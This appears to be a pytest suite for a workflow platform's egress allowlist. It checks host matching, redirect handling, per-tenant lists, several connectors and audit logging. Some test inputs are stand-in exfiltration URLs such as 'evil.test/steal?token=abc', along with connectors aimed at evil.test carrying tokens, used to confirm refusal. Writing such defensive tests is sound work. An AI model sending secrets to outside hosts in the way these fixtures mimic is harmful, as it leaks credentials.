"""The egress allowlist against real local servers: every connector, every redirect hop.

Names are faked onto 127.0.0.1 (``fake_dns``) and exempted from the SSRF block by
``POLICY.http_allowlist``, so the egress allowlist is what decides.
"""

import pytest

from automate.connectors import ConnectorAdapter, ConnectorError, ExecutionContext
from automate.connectors.base import ActionSpec
from automate.connectors.builtins.http import HttpConnector
from automate.connectors.builtins.llm import LLMConnector
from automate.connectors.builtins.slack import SlackConnector
from automate.connectors.builtins.webhook import WebhookConnector
from automate.governance.egress import EgressNotAllowed, check_egress
from automate.governance.http import safe_request
from automate.governance.models import AuditLogEntry
from automate.policy import PolicyViolation
from tests.factories import make_tenant

from .conftest import TRACE_ID, automate_settings
from .http_servers import Reply

pytestmark = pytest.mark.django_db(transaction=True)

NAMES = ["api.stripe.test", "files.stripe.test", "a.b.stripe.test", "stripe.test", "evil.test"]


@pytest.fixture
def names(fake_dns):
    return fake_dns({name: ["127.0.0.1"] for name in NAMES})


def policy(egress, tenants=None):
    section = {"http_allowlist": ["127.0.0.1", "*.test"], "egress_allowlist": egress}
    if tenants is not None:
        section["tenant_egress_allowlists"] = tenants
    return automate_settings(POLICY=section)


def ctx(tenant="acme", **kwargs):
    defaults = {"run_id": "run-7", "node_id": "call", "timeout_seconds": 10}
    return ExecutionContext(trace_id=TRACE_ID, tenant=tenant, **{**defaults, **kwargs})


def http_get(url, context=None):
    return HttpConnector().run("request", {"url": url}, context or ctx())


def refused_audit():
    return list(AuditLogEntry.objects.filter(action="egress.refused").order_by("pk"))


# --------------------------------------------------------------------------------------
# Matching
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("api.stripe.test", True),
        ("API.Stripe.TEST", True),
        ("api.stripe.test.", True),
        ("a.b.stripe.test", True),
        ("stripe.test", False),  # *.stripe.test is the subdomains, not the apex
        ("evilstripe.test", False),
        ("stripe.test.evil.test", False),
        ("api.stripe.test.evil.test", False),
    ],
)
def test_wildcard_matching_variants(host, allowed):
    with policy(["*.stripe.test"]):
        if allowed:
            check_egress(host, tenant="")
        else:
            with pytest.raises(EgressNotAllowed):
                check_egress(host, tenant="")


@pytest.mark.parametrize(
    ("pattern", "host", "port", "allowed"),
    [
        ("127.0.0.1", "127.1", 8000, True),  # any spelling of the IP
        ("127.0.0.1", "2130706433", 9, True),
        ("127.0.0.1:8000", "127.0.0.1", 8000, True),
        ("127.0.0.1:8000", "127.0.0.1", 8001, False),
        ("api.stripe.test:443", "api.stripe.test", None, True),  # https default port
        ("api.stripe.test:8443", "api.stripe.test", None, False),
        ("[::1]:8000", "[::1]", 8000, True),
        ("::1", "[0:0::1]", 1, True),
        ("bücher.test", "xn--bcher-kva.test", None, True),
        ("*", "anything.example", None, True),
    ],
)
def test_ip_port_and_idna_patterns(pattern, host, port, allowed):
    with policy([pattern]):
        if allowed:
            check_egress(host, port=port, tenant="")
        else:
            with pytest.raises(EgressNotAllowed):
                check_egress(host, port=port, tenant="")


def test_the_default_allows_every_host_and_an_empty_list_none():
    check_egress("anything.example", tenant="acme")
    with policy([]), pytest.raises(EgressNotAllowed, match=r"\(none\)"):
        check_egress("anything.example", tenant="")


# --------------------------------------------------------------------------------------
# At request time, every connector
# --------------------------------------------------------------------------------------


def test_an_allowed_host_is_called_and_a_refused_one_never_is(serve, names):
    server = serve(lambda request: Reply(body={"ok": True}))
    make_tenant("acme")
    with policy(["*.stripe.test"]):
        assert http_get(f"http://api.stripe.test:{server.port}/v1")["json"] == {"ok": True}
        with pytest.raises(ConnectorError) as caught:
            http_get(f"http://evil.test:{server.port}/steal?token=abc")
    error = caught.value
    assert isinstance(error, EgressNotAllowed)
    assert (error.code, error.retryable) == ("egress_not_allowed", False)
    assert f"evil.test:{server.port}" in error.message
    assert "POLICY.egress_allowlist" in error.message
    assert "*.stripe.test" in error.message
    assert "abc" not in error.message
    assert len(server.requests) == 1
    [entry] = refused_audit()
    assert entry.tenant.slug == "acme"
    assert entry.resource_id == "evil.test"
    assert entry.trace_id == TRACE_ID
    assert entry.details["policy"] == "POLICY.egress_allowlist"
    assert entry.details["connector"] == "http"
    assert (entry.details["run_id"], entry.details["node_id"]) == ("run-7", "call")
    assert "abc" not in str(entry.details)


@pytest.mark.parametrize("target", ["evil.test", "stripe.test", "127.0.0.1"])
def test_a_redirect_to_a_host_off_the_list_is_refused(serve, names, target):
    landing = serve(lambda request: Reply(body="you should not be here"))
    start = serve(
        lambda request: Reply(302, headers={"Location": f"http://{target}:{landing.port}/x"})
    )
    make_tenant("acme")
    with policy(["*.stripe.test"]), pytest.raises(EgressNotAllowed) as caught:
        http_get(f"http://api.stripe.test:{start.port}/pay")
    assert caught.value.details["host"] == target
    assert len(start.requests) == 1
    assert landing.requests == []
    assert len(refused_audit()) == 1


def test_a_redirect_within_the_list_is_followed(serve, names):
    landing = serve(lambda request: Reply(body={"landed": True}))
    start = serve(
        lambda request: Reply(
            301, headers={"Location": f"http://files.stripe.test:{landing.port}/f"}
        )
    )
    with policy(["*.stripe.test"]):
        assert http_get(f"http://api.stripe.test:{start.port}/")["json"] == {"landed": True}
    assert refused_audit() == []


def test_the_ssrf_rules_still_apply_to_allowed_hosts(serve, fake_dns):
    fake_dns({"internal.stripe.test": ["10.0.0.7"]})
    make_tenant("acme")
    section = {"egress_allowlist": ["*.stripe.test"]}
    with automate_settings(POLICY=section), pytest.raises(ConnectorError) as caught:
        http_get("http://internal.stripe.test/")
    assert (caught.value.code, caught.value.retryable) == ("ssrf_blocked", False)
    assert refused_audit() == []
    with automate_settings(POLICY=section), pytest.raises(PolicyViolation) as caught:
        safe_request("GET", "http://internal.stripe.test/")
    assert caught.value.code == "ssrf_blocked"


def test_per_tenant_narrowing(serve, names):
    server = serve(lambda request: Reply(body={"ok": True}))
    make_tenant("acme")
    make_tenant("globex")
    tenants = {"acme": ["files.stripe.test"]}
    url = f"http://api.stripe.test:{server.port}/"
    with policy(["*.stripe.test"], tenants):
        # globex has no entry: the site-wide list applies.
        assert http_get(url, ctx("globex"))["status"] == 200
        with pytest.raises(EgressNotAllowed) as caught:
            http_get(url, ctx("acme"))
        assert http_get(f"http://files.stripe.test:{server.port}/", ctx("acme"))["status"] == 200
        # A tenant list cannot widen the site-wide one.
        with policy(["*.stripe.test"], {"acme": ["evil.test"]}), pytest.raises(EgressNotAllowed):
            http_get(f"http://evil.test:{server.port}/", ctx("acme"))
    assert "POLICY.tenant_egress_allowlists['acme']" in caught.value.message
    assert caught.value.details["tenant"] == "acme"
    assert len(server.requests) == 2
    entries = refused_audit()
    assert [e.tenant.slug for e in entries] == ["acme", "acme"]
    assert entries[1].details["policy"] == "POLICY.egress_allowlist"


def test_the_webhook_connector_is_held_to_the_list(serve, names):
    server = serve(lambda request: Reply(body={"ok": True}))
    make_tenant("acme")
    with policy(["*.stripe.test"]), pytest.raises(EgressNotAllowed):
        WebhookConnector().run(
            "post",
            {"url": f"http://evil.test:{server.port}/hook", "payload": {"a": 1}, "secret": "s3"},
            ctx(),
        )
    assert server.requests == []
    assert refused_audit()[0].details["connector"] == "webhook"


def test_the_slack_connector_is_held_to_the_list(serve, names):
    server = serve(lambda request: Reply(body={"ok": True, "channel": "C1", "ts": "1.2"}))
    make_tenant("acme")
    options = {"slack": {"base_url": f"http://evil.test:{server.port}/api/"}}
    section = {"http_allowlist": ["*.test"], "egress_allowlist": ["hooks.slack.test"]}
    with (
        automate_settings(POLICY=section, CONNECTOR_OPTIONS=options),
        pytest.raises(EgressNotAllowed),
    ):
        SlackConnector().run(
            "post_message", {"token": "xoxb-1-2-abc", "channel": "C1", "text": "hi"}, ctx()
        )
    assert server.requests == []
    assert refused_audit()[0].details["connector"] == "slack"


def test_the_llm_provider_is_held_to_the_list(serve, names):
    server = serve(lambda request: Reply(body={}))
    make_tenant("acme")
    options = {"llm": {"base_url": f"http://evil.test:{server.port}/v1"}}
    section = {"http_allowlist": ["*.test"], "egress_allowlist": ["api.openai.test"]}
    with (
        automate_settings(POLICY=section, CONNECTOR_OPTIONS=options),
        pytest.raises(ConnectorError) as caught,
    ):
        LLMConnector().run("chat", {"api_key": "sk-x", "model": "m", "prompt": "hi"}, ctx())
    assert (caught.value.code, caught.value.retryable) == ("egress_not_allowed", False)
    assert server.requests == []
    assert refused_audit()[0].details["connector"] == "llm"


class CustomConnector(ConnectorAdapter):
    """A third-party connector that calls the shared client itself."""

    code = "custom_crm"
    name = "Custom CRM"
    actions = {"sync": ActionSpec(label="Sync", inputs={"url": {"type": "string"}})}

    def execute(self, action, params, context):
        return {"status": safe_request("GET", params["url"]).status_code}


def test_a_custom_connector_through_the_shared_client(serve, names):
    server = serve(lambda request: Reply(body="ok"))
    make_tenant("acme")
    with policy(["*.stripe.test"], {"acme": ["api.stripe.test"]}):
        ok = CustomConnector().run("sync", {"url": f"http://api.stripe.test:{server.port}/"}, ctx())
        assert ok == {"status": 200}
        with pytest.raises(EgressNotAllowed) as caught:
            CustomConnector().run(
                "sync", {"url": f"http://files.stripe.test:{server.port}/"}, ctx()
            )
    assert caught.value.details["policy"] == "POLICY.tenant_egress_allowlists['acme']"
    assert refused_audit()[0].details["connector"] == "custom_crm"


def test_outside_a_step_only_the_site_wide_list_applies(serve, names):
    server = serve(lambda request: Reply(body="ok"))
    with policy(["*.stripe.test"], {"acme": ["nothing.test"]}):
        assert safe_request("GET", f"http://api.stripe.test:{server.port}/").status_code == 200
        with pytest.raises(EgressNotAllowed):
            safe_request("GET", f"http://evil.test:{server.port}/")
    [entry] = refused_audit()
    assert entry.tenant is None


# --------------------------------------------------------------------------------------
# Start-up check
# --------------------------------------------------------------------------------------


def test_a_base_url_off_the_list_is_a_startup_warning():
    from automate.checks import check_egress as run_check

    with automate_settings(POLICY={"egress_allowlist": ["api.openai.com"]}):
        warnings = run_check()
    assert [w.id for w in warnings] == ["automate.W030"]
    assert "slack" in warnings[0].msg
    assert "slack.com" in warnings[0].msg
    options = {"slack": {"base_url": "https://hooks.slack.test/api"}}
    section = {"egress_allowlist": ["api.openai.com", "*.slack.test"]}
    with automate_settings(POLICY=section, CONNECTOR_OPTIONS=options):
        assert run_check() == []
    assert run_check() == []  # the default allows every host


# --------------------------------------------------------------------------------------
# In a real run
# --------------------------------------------------------------------------------------


def test_a_run_whose_url_comes_from_the_event_fails_at_once_and_is_audited(serve, names):
    from automate.execution.models import ExecutionRun, StepRun
    from automate.runtime import run_workflow
    from tests.factories import make_published

    server = serve(lambda request: Reply(body={"ok": True}))
    acme = make_tenant("acme")
    graph = {
        "nodes": [
            {"id": "trigger", "type": "trigger"},
            {
                "id": "call",
                "type": "action",
                "connector": "http",
                "action": "request",
                # The host is chosen by the event: only the request-time check can refuse it.
                "inputs": {"url": "{{ event.payload.callback }}", "method": "POST"},
                "retry": {"max_retries": 3},
            },
        ],
        "edges": [{"source": "trigger", "target": "call"}],
    }
    with policy(["*.stripe.test"]):
        make_published(slug="callback", tenant=acme, graph=graph, rule_spec={})
        run = run_workflow(
            "callback", {"callback": f"http://evil.test:{server.port}/x"}, tenant=acme
        )
    run = ExecutionRun.objects.get(pk=run.pk)
    assert run.status == "failed"
    [step] = StepRun.objects.filter(run=run, node_id="call")  # one attempt: not retried
    assert step.status == "failed"
    assert "evil.test" in step.error
    assert "POLICY.egress_allowlist" in step.error
    assert server.requests == []
    [entry] = refused_audit()
    assert (entry.tenant, entry.details["run_id"], entry.details["node_id"]) == (
        acme,
        str(run.pk),
        "call",
    )
